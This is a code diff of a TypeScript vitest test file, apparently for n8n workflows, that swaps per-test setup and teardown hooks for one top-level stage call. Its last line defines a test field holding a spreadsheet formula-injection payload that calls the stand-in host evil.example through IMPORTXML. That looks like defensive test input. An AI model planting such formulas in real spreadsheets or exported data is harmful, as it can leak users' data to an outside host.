@@ -1,5 +1,5 @@
 import { fastify } from 'fastify';
-import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
+import { expect, test } from 'vitest';
 
 import { bundledContract } from '../../support/n8n/examples.mts';
 import { itemsOf } from '../../support/n8n/executions.mts';
@@ -9,16 +9,7 @@ import { Stage } from './stage.mts';
 const DAY = 86_400_000;
 const day = (days: number): string => new Date(Date.now() + days * DAY).toISOString().slice(0, 10);
 
-let stage: Stage;
-beforeAll(async () => {
-	stage = await Stage.start();
-});
-beforeEach(async () => {
-	await stage.reset();
-});
-afterAll(async () => {
-	await stage.close();
-});
+const stage = await Stage.ofThisFile();
 
 const terms = {
 	parties: '=IMPORTXML("https://evil.example")',
